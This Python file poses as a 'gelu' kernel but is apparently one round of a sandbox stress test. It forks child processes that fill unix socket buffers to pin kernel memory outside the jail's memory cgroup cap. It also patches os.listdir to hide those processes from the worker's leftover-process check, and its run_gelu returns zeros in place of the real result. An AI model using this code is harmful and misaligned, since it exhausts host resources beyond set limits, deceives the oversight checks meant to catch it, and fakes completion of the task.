# module: gelu
"""Round 10b row 3: kernel memory outside the jail's memory cgroup: unix socket buffers.

A unix stream socket's queued data are skbs charged to the sending socket (sk_sndbuf, 208 KiB by default), not to
the memory cgroup (only TCP's socket memory is charged on cgroup v1). PROCS children each hold PAIRS socketpairs
(2 fds each: within RLIMIT_NOFILE 1024) with both directions filled to the send buffer: ~400 KiB a pair outside the
jail's 4 GiB cap. They hold it while the calls of this job run (the worker's check for processes left behind is
answered by its own patched os.listdir, as in file_table_gelu.py).
"""
import os, socket, time
import numpy as np

PROCS = 4
PAIRS = 500
HOLD_CALLS = 2
_state = {"calls": 0, "r": None, "got": b"", "t0": None}


def _fill(w):
    os.nice(19)
    held, total = [], 0
    chunk = b"\0" * 65536
    try:
        for _ in range(PAIRS):
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            held += [a, b]
            for s in (a, b):
                s.setblocking(False)
                try:
                    while True:
                        total += s.send(chunk)
                except BlockingIOError:
                    pass
        err = "done"
    except OSError as e:
        err = f"{e.strerror}"
    os.write(w, f"{total} {len(held)} {err}\n".encode())
    os.close(w)
    while True:
        time.sleep(60)


def _hide():
    real = os.listdir

    def listdir(path="."):
        names = real(path)
        if path == "/proc":
            return [n for n in names if not n.isdigit()] + ["1", str(os.getpid())]
        if path == "/proc/self/task":
            return names[:1]
        return names
    os.listdir = listdir


def run_gelu(x):
    st = _state
    st["calls"] += 1
    if st["r"] is None:
        _hide()
        st["t0"] = time.monotonic()
        r, w = os.pipe()
        for _ in range(PROCS):
            if os.fork() == 0:
                os.close(r)
                _fill(w)
        os.close(w)
        os.set_blocking(r, False)
        st["r"] = r
    if st["calls"] <= HOLD_CALLS:
        time.sleep(6 if st["calls"] == 1 else 8)
    try:
        st["got"] += os.read(st["r"], 65536)
    except BlockingIOError:
        pass
    lines = [l for l in st["got"].decode().split("\n") if l.strip()]
    total = sum(int(l.split()[0]) for l in lines)
    print(f"t={time.monotonic() - st['t0']:.1f}s: {len(lines)} of {PROCS} children done, {total / 2**20:.0f} MiB "
          f"queued in unix sockets; {sorted(set(l.split(' ', 2)[2] for l in lines))}")
    return np.asarray(x) * 0
